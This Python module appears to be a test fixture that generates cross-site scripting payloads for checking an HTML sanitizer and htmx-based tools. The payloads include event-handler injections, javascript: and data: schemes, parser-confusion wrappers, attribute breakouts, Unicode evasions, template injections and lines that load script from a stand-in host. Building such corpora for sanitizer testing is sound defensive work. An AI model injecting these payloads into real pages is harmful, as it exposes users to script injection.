# ruff: noqa: E501 - payloads and rules are long lines
"""Payloads written by us, by family: every way in that the browser's parsers, schemes and our own tools offer."""

from itertools import product

EVENTS = (
    *("onerror", "onload", "onfocus", "ontoggle", "onmouseover", "onanimationstart", "onpointerenter"),
    *("onbegin", "onpageshow", "onscrollend"),
)
CARRIERS = (
    *("img src=x", "svg", "body", "details open", "input autofocus tabindex=1", "video src=x", "audio src=x"),
    *("iframe src=about:blank", "object data=x", "embed src=x", "marquee", "select autofocus", "math", "p"),
    *(
        "textarea autofocus",
        "button autofocus",
        "a href=# autofocus",
        "table background=x",
        "style",
        "link rel=x",
    ),
    *("form", "keygen autofocus", "x-anything", "figure", "th", "blockquote", "li", "h2", "strong", "base"),
)
CALLS = ("alert(1)", "alert`1`", "top['al'+'ert'](1)", "&#97;lert(1)", "window.alert(1)//")
SCHEMES = (
    *("javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java\tscript:alert(1)"),
    *(
        "java\nscript:alert(1)",
        "java&#9;script:alert(1)",
        "&#106;avascript:alert(1)",
        "javascript&colon;alert(1)",
    ),
    *(
        "\x01javascript:alert(1)",
        "javascript:%61lert(1)",
        "vbscript:msgbox(1)",
        "data:text/html,<script>alert(1)</script>",
    ),
    *(
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "//a.vn/x.js",
        "\\\\a.vn\\x",
        "blob:null/x",
    ),
)
LEADS = (
    *(
        '<a href="{}">x</a>',
        '<iframe src="{}"></iframe>',
        '<img src="{}">',
        '<form action="{}"><button>x</form>',
    ),
    *('<object data="{}"></object>', '<svg><a xlink:href="{}"><text>x</text></a></svg>', '<base href="{}">'),
    *(
        '<button formaction="{}">x</button>',
        '<meta http-equiv=refresh content="0;url={}">',
        '<embed src="{}">',
    ),
    *(
        '<math href="{}">x</math>',
        '<area href="{}">',
        '<blockquote cite="{}">x</blockquote>',
        '<link rel=import href="{}">',
    ),
)
SHELLS = (
    *(
        "<svg><style>{}</style></svg>",
        "<math><mtext><table><mglyph><style><!--</style>{}",
        "<noscript><p title='</noscript>{}'>",
    ),
    *(
        "<title>{}</title>",
        "<textarea>{}</textarea>",
        "<xmp>{}</xmp>",
        "<template>{}</template>",
        "<!--{}-->",
    ),
    *(
        "<svg><desc>{}</desc></svg>",
        "<svg></p><style><a id='</style>{}'>",
        "<form><math><mtext></form><form><mglyph><style></math>{}",
    ),
    *(
        "<iframe srcdoc='{}'></iframe>",
        "<svg><foreignObject>{}</foreignObject></svg>",
        "<select><option>{}</select>",
    ),
    *(
        "<table><caption>{}</table>",
        "<noembed>{}</noembed>",
        "<!--><!-->{}",
        "<![CDATA[{}]]>",
        "<?xml {} ?>",
        "<b><p><b>{}</b></p>",
    ),
)
INNERS = (
    *(
        "<img src=x onerror=alert(1)>",
        "<script>alert(1)</script>",
        "<svg onload=alert(1)>",
        "</style><img src=x onerror=alert(1)>",
    ),
    *(
        "</title><script>alert(1)</script>",
        "--><img src=x onerror=alert(1)>",
        "<a href=javascript:alert(1)>x</a>",
    ),
    *("]]><img src=x onerror=alert(1)>", "<style>@import 'javascript:alert(1)'</style>"),
)
BREAKS = (
    *('"><img src=x onerror=alert(1)>', "'><img src=x onerror=alert(1)>", '" onfocus=alert(1) autofocus x="'),
    *(
        "' onfocus=alert(1) autofocus x='",
        "`><img src=x onerror=alert(1)>",
        "</textarea><img src=x onerror=alert(1)>",
    ),
    *("</script><script>alert(1)</script>", "</title><svg onload=alert(1)>", "<img src=x onerror=alert(1)//"),
    *("<<img src=x onerror=alert(1)>", "<img/src=x/onerror=alert(1)>", "<img\x0csrc=x\x0conerror=alert(1)>"),
    *(
        "<script src=//a.vn/x.js></script>",
        "<script\x00>alert(1)</script>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
    ),
    *(
        '"-alert(1)-"',
        "';alert(1);//",
        "\\';alert(1);//",
        "</p><script type=module>alert(1)</script>",
        "javascript:alert(1)",
    ),
)
OURS = (  # what our own tools listen to: htmx, scripts of pages, templates, the cleaner's own gates
    *('<b hx-get="/toi/" hx-trigger="load">x</b>', '<b hx-on:load="alert(1)">x</b>', '<b data-hx-on:click="alert(1)">x</b>'),
    *('<b hx-on="htmx:load: alert(1)">x</b>', '<b hx-vals="js:{a:alert(1)}" hx-get="/" hx-trigger="load">x</b>'),
    *('<b data-script="//a.vn/x.js">x</b>', '<b data-tap="//a.vn/x.js">x</b>', '<p data-editor="body">x</p>', '<b class="toast" id="main">x</b>'),
    *('<div hx-ext="x" hx-ws="connect:/">x</div>', "{{ 7*7 }}{% raw %}", "${alert(1)}", "{{constructor.constructor('alert(1)')()}}"),
    *("<form id=trouble><input name=textContent>", '<a id=htmx href="x:y">x</a>', '<img name="getElementById">', "<p style='position:fixed;inset:0'>x"),
    *("\uff1cscript\uff1ealert(1)\uff1c/script\uff1e", "<\u200bimg src=x onerror=alert(1)>", "\u202e<img src=x onerror=alert(1)>"),
    *("<img src=x one\u0301rror=alert(1)>", "<\u017fcript>alert(1)</\u017fcript>", "<svg/onload=\u2028alert(1)>", "\ufeff<script>alert(1)</script>"),
    *('<p class="MsoListParagraph" style="mso-list:l0 level1 lfo1" onmouseover=alert(1)>x', '<o:p onload=alert(1)>x</o:p>'),
    *('<div role="heading" aria-level="<script>alert(1)</script>">x</div>', "<span style='font-weight:bold' onfocus=alert(1) tabindex=1 autofocus>x"),
)  # fmt: skip


def base() -> list[str]:
    """Some of every family: what `./test` tries."""
    return list(dict.fromkeys([*all_of()[:: len(all_of()) // 45], *BREAKS, *OURS]))


def all_of() -> list[str]:
    """Every payload, each once."""
    made = [
        f"<{carrier} {event}={CALLS[n % len(CALLS)]}>"
        for n, (carrier, event) in enumerate(product(CARRIERS, EVENTS))
    ]
    made += [lead.format(scheme) for lead, scheme in product(LEADS, SCHEMES)]
    made += [shell.replace("{}", inner) for shell, inner in product(SHELLS, INNERS)]
    return list(dict.fromkeys([*made, *BREAKS, *OURS]))
